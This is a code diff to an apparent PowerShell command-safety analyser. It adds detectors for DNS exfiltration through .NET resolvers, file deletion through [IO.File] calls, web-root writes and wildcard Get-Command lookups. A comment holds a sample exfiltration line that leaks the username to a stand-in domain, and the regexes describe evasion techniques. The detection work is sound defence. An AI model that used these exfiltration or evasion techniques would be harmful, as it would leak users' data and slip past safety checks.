@@ -242,6 +242,12 @@ def analyse(text: str, scope: Scope) -> None:
             flags = "-Recurse -Force" if folder else "-Force"
             line = f"Remove-Item {flags} -Path '{value.replace(chr(39), chr(39) * 2)}'"
             scope.include(scope.nested(line, "powershell", Word(line, s0, e0), -1))
+    if "dns]::" in low:
+        _dotnet_dns(text, scope)
+    if ".as" in low or ".php" in low or ".js" in low:
+        from aintern_ls.safety.windows import web_root_writes
+
+        web_root_writes(text, scope)
     m = _WEB_UPLOAD.search(text)
     if m:
         # WebClient.UploadFile reads a file from disk; UploadData/String/Values send what
@@ -362,6 +368,33 @@ def _written_files(text: str, scope: Scope) -> None:
         old = scope.written.get(base) if m.group(3) == ">>" else None
         scope.written[base] = ((old[0] if old else "") + body + "\n", -1)
         scope.unseen.pop(base, None)
+
+
+# `[Net.Dns]::GetHostAddresses("$env:USERNAME.x.example")`: .NET's resolver, like nslookup.
+_NET_DNS = re.compile(
+    r"(?i)\[(?:system\.)?net\.dns\]::(?:get\w+|resolve|begin\w+)\s*\(([^;\n]{0,400})"
+)
+_PUBLIC_NAME = re.compile(
+    r"(?i)\.[\w-]+\.(?!(?:local|lan|internal|intranet|localdomain|home|corp|ad|test)\b)"
+    r"[a-z]{2,}\b"
+)
+
+
+def _dotnet_dns(text: str, scope: Scope) -> None:
+    """A name built at run time (a variable, `$(…)`, a command's output) in front of a
+    public domain, resolved through .NET: DNS exfiltration."""
+    for m in _NET_DNS.finditer(text[:20000]):
+        arg = m.group(1)
+        runtime = "$" in arg or re.search(r"\(\s*[A-Za-z]", arg) is not None
+        if runtime and _PUBLIC_NAME.search(arg):
+            scope.add(
+                RiskLevel.CRITICAL,
+                "exfiltration",
+                ".NET resolves a name holding a run-time value (DNS exfiltration)",
+                m.start(),
+                m.end(),
+            )
+            return
 
 
 def _dotnet_writes(text: str, scope: Scope) -> None:
@@ -713,7 +746,13 @@ class _Walker:
             return
         body = _text(node)
         for var in names_:
-            m = re.search(re.escape(var) + r"\.delete\s*\(", body, re.I)
+            m = re.search(re.escape(var) + r"\.delete\s*\(", body, re.I) or re.search(
+                r"\[(?:system\.)?io\.file\]::(?:writeall\w+|create|delete)\s*\(\s*"
+                + re.escape(var)
+                + r"(?:\.(?:fullname|pspath|fullpath))?\s*[,)]",
+                body,
+                re.I,
+            )
             if m is None:
                 continue
             s, _ = self.span(node)
@@ -961,6 +1000,19 @@ class _Walker:
                     if folded is not None and folded.strip():
                         # Judge what the assembled name really runs.
                         word = Word(folded.strip(), word.start, word.end)
+                if word.dynamic:
+                    named = _command_lookup(_text(c).lstrip("&. \t"))
+                    if named is not None:
+                        # `& (Get-Command Format-Vol*)`: the one command the pattern names
+                        # (among those known here: a floor of moderate for the rest)
+                        self.scope.add(
+                            RiskLevel.MODERATE,
+                            "indirect-code",
+                            f"the command is looked up by a pattern (judged as {named})",
+                            word.start,
+                            word.end,
+                        )
+                        word = Word(named, word.start, word.end)
                 words.append(word)
             elif t == "command_elements":
                 for el in c.named_children:
@@ -1372,6 +1424,29 @@ _ITEM_CAST = re.compile(
 )
 # `$d.Delete($true)` on a variable holding an item
 _VAR_DELETE = re.compile(r"(?i)(\$[\w:]+)\.delete\s*\(\s*([^)]*)\)")
+
+
+_GCM = re.compile(
+    r"(?is)\A\(?\s*(?:get-command|gcm)\s+(?:-name\s+)?['\"]?([\w*?.-]+)['\"]?"
+    r"(?:\s+-(?:commandtype|type|module)\s+\S+)*\s*\)?(?:\.(?:name|source|definition))?\s*\Z"
+)
+
+
+def _command_lookup(expr: str) -> str | None:
+    """`(Get-Command Format-Vol*)`, `(gcm -Name Remove-It?m)`: a command lookup whose
+    pattern matches exactly one command the analyser knows resolves to it statically."""
+    m = _GCM.match(expr.strip())
+    if m is None or len(expr) > 300:
+        return None
+    from aintern_ls.safety.registry import HANDLERS, WINDOWS_HANDLERS
+    from aintern_ls.safety.words import glob_candidates
+
+    pattern = m.group(1).lower()
+    known = frozenset(n for n in (*HANDLERS, *WINDOWS_HANDLERS) if "-" in n and n[:1].isalpha())
+    if not any(ch in pattern for ch in "*?"):
+        return pattern if pattern in known else None
+    found = glob_candidates(pattern, known)
+    return found[0] if len(found) == 1 else None
 
 
 def _single_command(node: Node) -> Node | None:
